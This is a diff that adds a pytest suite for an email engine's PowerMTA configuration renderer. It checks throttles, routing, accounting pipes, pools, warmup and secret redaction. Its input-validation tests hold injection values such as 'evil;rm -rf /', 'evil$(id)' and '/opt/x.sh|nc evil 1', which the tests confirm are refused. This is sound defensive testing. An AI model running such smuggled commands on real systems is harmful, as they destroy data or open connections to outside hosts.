@@ -1,0 +1,357 @@
+"""The renderer on the guide's 5-IP inventory: golden files, throttles, pipes, pools, safety."""
+
+from __future__ import annotations
+
+import dataclasses
+import os
+import re
+from pathlib import Path
+
+import pytest
+
+from email_engine.errors import InvalidInput
+from email_engine.integrations.powermta.inventory import Inventory, IpEntry, VolumeCap
+from email_engine.integrations.powermta.linter import lint_files
+from email_engine.integrations.powermta.renderer import (
+    BOUNCE_FILE,
+    CONFIG_FILE,
+    ROUTING_FILE,
+    RenderedConfig,
+    render_config,
+)
+from email_engine.integrations.powermta.tables import default_tables
+from tests.unit.powermta.guide import PASSWORD, SAMPLE_RULES, guide_inventory, guide_settings
+
+GOLDEN = Path(__file__).resolve().parents[2] / "data" / "powermta" / "guide"
+REQUIRED_FIELDS = [
+    "timeLogged",
+    "timeQueued",
+    "orig",
+    "rcpt",
+    "orcpt",
+    "dsnAction",
+    "dsnStatus",
+    "dsnDiag",
+    "dsnMta",
+    "bounceCat",
+    "srcType",
+    "srcMta",
+    "dlvType",
+    "dlvSourceIp",
+    "dlvDestinationIp",
+    "dlvSize",
+    "vmta",
+    "jobId",
+    "envId",
+    "queue",
+    "vmtaPool",
+]
+
+
+def _render(inventory: Inventory | None = None, **settings: object) -> RenderedConfig:
+    return render_config(
+        inventory or guide_inventory(), guide_settings(**settings), default_tables(), SAMPLE_RULES
+    )
+
+
+def _blocks(text: str, tag: str) -> dict[str, list[str]]:
+    """Top-level ``<tag name> … </tag>`` bodies by name (directive lines, stripped)."""
+    blocks: dict[str, list[str]] = {}
+    current: str | None = None
+    depth = 0
+    for line in text.splitlines():
+        stripped = line.strip()
+        if current is None and depth == 0 and stripped.startswith(f"<{tag} "):
+            current = stripped[len(tag) + 2 : -1]
+            blocks[current] = []
+            continue
+        if current is not None:
+            if stripped == f"</{tag}>" and line == f"</{tag}>":
+                current = None
+                continue
+            blocks[current].append(stripped)
+    return blocks
+
+
+@pytest.fixture(scope="module")
+def rendered() -> RenderedConfig:
+    return _render()
+
+
+def test_golden_files(rendered: RenderedConfig) -> None:
+    if os.environ.get("UPDATE_GOLDEN") == "1":
+        GOLDEN.mkdir(parents=True, exist_ok=True)
+        for name, text in rendered.files.items():
+            (GOLDEN / name).write_text(text, encoding="utf-8")
+    for name in (CONFIG_FILE, ROUTING_FILE, BOUNCE_FILE):
+        expected = (GOLDEN / name).read_text(encoding="utf-8")
+        assert rendered.files[name] == expected, f"{name} differs from tests/data/powermta/guide/{name}"
+
+
+def test_rendered_guide_config_passes_the_linter_strictly(rendered: RenderedConfig) -> None:
+    report = lint_files(rendered.files, entry=CONFIG_FILE, expected_ips=rendered.expected_ips)
+    assert report.issues == []
+    assert report.files == [CONFIG_FILE, ROUTING_FILE, BOUNCE_FILE]
+    assert set(rendered.expected_ips) == {
+        "192.0.2.10",
+        "192.0.2.11",
+        "192.0.2.12",
+        "192.0.2.13",
+        "192.0.2.14",
+    }
+
+
+def test_no_placeholder_anywhere(rendered: RenderedConfig) -> None:
+    everything = "\n".join(rendered.files.values())
+    for token in ("IP1_ADDRESS", "CHANGE_ME", "YOUR_", "{{", "XXX", "example_placeholder"):
+        assert token not in everything
+
+
+@pytest.mark.parametrize(
+    ("queue", "rate", "smtp_out", "per_connection"),
+    [
+        ("*", "500/h", None, None),
+        ("gmail.rollup", "50/h", None, None),
+        ("microsoft.rollup", "50/h", "1", None),
+        ("yahoo.rollup", "30/h", None, "2"),
+        ("aol.rollup", "50/h", None, None),
+        ("orange.rollup", "30/h", None, None),
+        ("free.rollup", "30/h", None, None),
+        ("sfr.rollup", "30/h", None, None),
+        ("t-online.rollup", "30/h", None, None),
+        ("webde.rollup", "30/h", None, None),
+        ("comcast.rollup", "50/h", None, None),
+        ("att.rollup", "50/h", None, None),
+        ("cox.rollup", "50/h", None, None),
+        ("charter.rollup", "50/h", None, None),
+        ("icloud.rollup", "50/h", None, None),
+    ],
+)
+def test_guide_throttles(
+    rendered: RenderedConfig, queue: str, rate: str, smtp_out: str | None, per_connection: str | None
+) -> None:
+    body = _blocks(rendered.files[CONFIG_FILE], "domain")[queue]
+    assert f"max-msg-rate {rate}" in body
+    if smtp_out:
+        assert f"max-smtp-out {smtp_out}" in body
+    if per_connection:
+        assert f"max-msg-per-connection {per_connection}" in body
+    # Backoff on every queue: 1 message a minute, retry every 20 minutes, normal after 1 h or a delivery.
+    for line in (
+        "smtp-pattern-list provider-backoff",
+        "backoff-max-msg-rate 1/m",
+        "backoff-retry-after 20m",
+        "backoff-to-normal-after 1h",
+        "backoff-to-normal-after-delivery true",
+    ):
+        assert line in body
+
+
+def test_backoff_list_has_at_least_80_real_patterns(rendered: RenderedConfig) -> None:
+    body = _blocks(rendered.files[CONFIG_FILE], "smtp-pattern-list")["provider-backoff"]
+    replies = [line for line in body if line.startswith("reply /") and line.endswith(" mode=backoff")]
+    assert len(replies) >= 80
+    joined = "\n".join(replies)
+    for needle in ("4\\.7\\.28", "TSS04", "4\\.7\\.650", "S775", "Trop de connexions", "RP-00"):
+        assert needle in joined
+
+
+def test_every_big_provider_is_rolled_up_by_domain_and_mx(rendered: RenderedConfig) -> None:
+    routing = rendered.files[ROUTING_FILE]
+    macros = re.findall(r"^domain-macro (\S+) (\S+)$", routing, re.MULTILINE)
+    rollups = set(re.findall(r"^mx-rollup (\S+) \S+$", routing, re.MULTILINE))
+    queues = set(re.findall(r"^    queue-to (\S+)$", routing, re.MULTILINE))
+    assert len(macros) >= 15
+    assert len(rollups) >= 15
+    assert queues == rollups
+    assert "mx-rollup gmail.rollup *.google.com" in routing
+    assert "mx-rollup microsoft.rollup *.mail.protection.outlook.com" in routing
+    domains = {name: members.split(",") for name, members in macros}
+    assert {"gmail.com", "googlemail.com"} <= set(domains["gmail-domains"])
+    assert "wanadoo.fr" in domains["orange-domains"]
+    defined = set(_blocks(rendered.files[CONFIG_FILE], "domain"))
+    assert queues <= defined
+
+
+def test_both_accounting_pipes(rendered: RenderedConfig) -> None:
+    blocks = _blocks(rendered.files[CONFIG_FILE], "acct-file")
+    bounce = blocks["|/opt/email-engine/scripts/bounce-pipe.sh"]
+    delivery = blocks["|/opt/email-engine/scripts/delivery-pipe.sh"]
+    assert "records b,rb,f" in bounce
+    assert "records d" in delivery
+    for body, kind in ((bounce, "b"), (bounce, "rb"), (delivery, "d")):
+        fields = (
+            next(line for line in body if line.startswith(f"record-fields {kind} ")).split()[2].split(",")
+        )
+        assert set(REQUIRED_FIELDS) <= set(fields)
+
+
+def test_listener_auth_and_management_port(rendered: RenderedConfig) -> None:
+    config = rendered.files[CONFIG_FILE]
+    assert "smtp-listener 0.0.0.0:2525" in config
+    assert _blocks(config, "smtp-user")["mailwizz"] == [f"password {PASSWORD}", "source {mailwizz-auth}"]
+    mailwizz = _blocks(config, "source")["198.51.100.7"]
+    assert "require-auth true" in mailwizz and "smtp-service yes" in mailwizz
+    assert "always-allow-relaying yes" in _blocks(config, "source")["{mailwizz-auth}"]
+    assert "always-allow-relaying no" in _blocks(config, "source")["0/0"]
+    assert "postmaster postmaster@example.com" in config
+    assert "http-mgmt-port 8080" in config
+    access = re.findall(r"^http-access (\S+) (\S+)$", config, re.MULTILINE)
+    assert access == [("127.0.0.1", "admin"), ("::1", "admin"), ("0/0", "none")]
+
+
+def test_vmtas_pools_and_weights(rendered: RenderedConfig) -> None:
+    config = rendered.files[CONFIG_FILE]
+    vmtas = _blocks(config, "virtual-mta")
+    assert set(vmtas) == {
+        "vmta-transactional-1",
+        "vmta-marketing-1",
+        "vmta-cold-1",
+        "vmta-cold-2",
+        "vmta-cold-3",
+    }
+    assert "smtp-source-host 192.0.2.10 mta1.mail.example.com" in vmtas["vmta-transactional-1"]
+    assert "domain-key s2026,example.com,/etc/pmta/dkim/example.com.s2026.pem" in vmtas["vmta-marketing-1"]
+    assert "domain-key s2026,example.org,/etc/pmta/dkim/example.org.s2026.pem" in vmtas["vmta-marketing-1"]
+    # Warming IP: every queue capped at the warmup hourly limit (20/h is below every provider rate).
+    assert vmtas["vmta-cold-1"].count("max-msg-rate 20/h") == 1 + len(default_tables().providers)
+    # Standby IPs: defined, every queue paused, and weight 0 (not in the pool).
+    assert vmtas["vmta-cold-2"].count("max-msg-rate 0") == 1 + len(default_tables().providers)
+    assert not any(line.startswith("<domain") for line in vmtas["vmta-marketing-1"])
+    pools = _blocks(config, "virtual-mta-pool")
+    assert pools["transactional"] == ["virtual-mta vmta-transactional-1"]
+    assert pools["marketing"] == ["virtual-mta vmta-marketing-1"]
+    assert [line for line in pools["cold-outreach"] if not line.startswith("#")] == [
+        "virtual-mta vmta-cold-1"
+    ]
+
+
+def test_states_other_than_sending(rendered: RenderedConfig) -> None:
+    base = guide_inventory()
+    ips = list(base.ips)
+    ips[1] = dataclasses.replace(ips[1], state="quarantined")
+    ips[0] = dataclasses.replace(ips[0], state="retired")
+    result = _render(dataclasses.replace(base, ips=tuple(ips)))
+    config = result.files[CONFIG_FILE]
+    assert "vmta-transactional-1" not in config and "192.0.2.10" not in config
+    assert "192.0.2.10" not in result.expected_ips
+    pools = _blocks(config, "virtual-mta-pool")
+    assert not [line for line in pools["marketing"] if line.startswith("virtual-mta ")]
+    assert _blocks(config, "virtual-mta")["vmta-marketing-1"].count("max-msg-rate 0") >= 1
+    assert lint_files(result.files, entry=CONFIG_FILE, expected_ips=result.expected_ips).ok()
+
+
+def test_paused_warmup_plan_leaves_the_pool() -> None:
+    base = guide_inventory()
+    result = _render(dataclasses.replace(base, limits={3: VolumeCap(daily=0, hourly=0)}))
+    pools = _blocks(result.files[CONFIG_FILE], "virtual-mta-pool")
+    assert not [line for line in pools["cold-outreach"] if line.startswith("virtual-mta ")]
+
+
+def test_warmup_cap_above_a_provider_rate_keeps_the_provider_rate() -> None:
+    base = guide_inventory()
+    result = _render(dataclasses.replace(base, limits={3: VolumeCap(daily=2000, hourly=40)}))
+    body = _blocks(result.files[CONFIG_FILE], "virtual-mta")["vmta-cold-1"]
+    index = body.index("<domain yahoo.rollup>")
+    assert body[index + 1] == "max-msg-rate 30/h"
+    index = body.index("<domain gmail.rollup>")
+    assert body[index + 1] == "max-msg-rate 40/h"
+
+
+def test_secrets_are_redacted(rendered: RenderedConfig) -> None:
+    redacted = rendered.redacted()
+    assert PASSWORD not in "\n".join(redacted.values())
+    assert "password [redacted]" in redacted[CONFIG_FILE]
+    assert PASSWORD in rendered.files[CONFIG_FILE]
+
+
+HOSTILE = [
+    "evil\nname",
+    "evil{name}",
+    'evil"name',
+    "evil'name",
+    "evil;rm -rf /",
+    "evil$(id)",
+    "evil`id`",
+    "evil|cat",
+    "evil&name",
+    "evil<tag>",
+    "evil#comment",
+    "evil name",
+    "",
+    "x" * 300,
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+@pytest.mark.parametrize("field", ["vmta_name", "hostname", "pool", "purpose", "state"])
+def test_hostile_ip_fields_never_reach_the_files(field: str, value: str) -> None:
+    base = guide_inventory()
+    ips = list(base.ips)
+    ips[0] = dataclasses.replace(ips[0], **{field: value})
+    with pytest.raises(InvalidInput):
+        _render(dataclasses.replace(base, ips=tuple(ips)))
+
+
+@pytest.mark.parametrize("value", [value for value in HOSTILE if value])
+@pytest.mark.parametrize("field", ["name", "dkim_selector"])
+def test_hostile_domain_and_selector_are_refused(field: str, value: str) -> None:
+    base = guide_inventory()
+    domains = list(base.domains)
+    domains[0] = dataclasses.replace(domains[0], **{field: value})
+    with pytest.raises(InvalidInput):
+        _render(dataclasses.replace(base, domains=tuple(domains)))
+
+
+@pytest.mark.parametrize(
+    ("setting", "value"),
+    [
+        ("smtp_password", "pass word"),
+        ("smtp_password", "pass#word"),
+        ("smtp_password", 'pa"ss'),
+        ("smtp_password", "pa\nss"),
+        ("smtp_password", "pa$ss"),
+        ("postmaster", "post master@example.com"),
+        ("postmaster", "x@evil\n<source 0/0>"),
+        ("bounce_pipe", "/opt/x.sh; rm -rf /"),
+        ("bounce_pipe", "relative/pipe.sh"),
+        ("delivery_pipe", "/opt/x.sh|nc evil 1"),
+        ("smtp_user", "mail wizz"),
+        ("mailwizz_ips", ("not-an-ip",)),
+        ("mailwizz_ips", ()),
+        ("host_name", "host name"),
+        ("dkim_key_dir", "/etc/pmta/dkim keys"),
+        ("listener_port", 0),
+    ],
+)
+def test_hostile_settings_are_refused(setting: str, value: object) -> None:
+    with pytest.raises(InvalidInput):
+        _render(**{setting: value})
+
+
+def test_duplicate_address_and_unknown_state_are_refused() -> None:
+    base = guide_inventory()
+    ips = list(base.ips)
+    ips[1] = dataclasses.replace(ips[1], address="192.0.2.10")
+    with pytest.raises(InvalidInput, match="appears twice"):
+        _render(dataclasses.replace(base, ips=tuple(ips)))
+    ips = list(base.ips)
+    ips[1] = dataclasses.replace(ips[1], state="promoted")
+    with pytest.raises(InvalidInput, match="does not know"):
+        _render(dataclasses.replace(base, ips=tuple(ips)))
+
+
+def test_ipv6_address_and_listener() -> None:
+    base = guide_inventory()
+    ips = (
+        *base.ips,
+        IpEntry(9, "2001:db8::25", "mta6.mail.example.com", "vmta-v6", "marketing", "active", "marketing"),
+    )
+    result = _render(dataclasses.replace(base, ips=ips), listener_address="::")
+    assert "smtp-source-host 2001:db8::25 mta6.mail.example.com" in result.files[CONFIG_FILE]
+    assert "smtp-listener [::]:2525" in result.files[CONFIG_FILE]
+    assert lint_files(result.files, entry=CONFIG_FILE, expected_ips=result.expected_ips).ok(strict=True)
+
+
+def test_render_is_deterministic() -> None:
+    assert _render().files == _render().files
